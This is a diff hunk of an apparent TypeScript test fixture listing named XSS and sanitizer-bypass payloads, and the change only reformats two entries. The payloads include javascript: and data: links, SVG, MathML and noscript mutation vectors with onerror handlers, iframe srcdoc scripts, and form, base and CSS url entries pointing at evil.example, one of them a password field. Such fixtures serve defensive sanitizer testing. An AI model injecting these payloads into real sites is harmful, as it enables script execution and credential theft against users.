@@ -61,9 +61,16 @@ export const hostileAbouts: readonly Payload[] = [
   { name: 'script address', value: '<p><a href="java&#10;script:alert(1)">hi</a></p>' },
   { name: 'data address', value: '<p><a href="data:text/html,<script>alert(1)</script>">hi</a></p>' },
   { name: 'SVG', value: '<svg><style><img src=x onerror=alert(1)></style></svg><p>hi</p>' },
-  { name: 'MathML', value: '<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">hi' },
+  {
+    name: 'MathML',
+    value: '<math><mtext><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">hi',
+  },
   { name: 'mutation', value: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">hi' },
-  { name: 'style', value: '<style>@import "https://evil.example"</style><p style="background:url(https://evil.example)">hi</p>' },
+  {
+    name: 'style',
+    value:
+      '<style>@import "https://evil.example"</style><p style="background:url(https://evil.example)">hi</p>',
+  },
   { name: 'frame', value: '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>' },
   { name: 'form', value: '<form action="https://evil.example"><input name=password></form><p>hi</p>' },
   { name: 'base', value: '<base href="https://evil.example/"><p>hi</p>' },
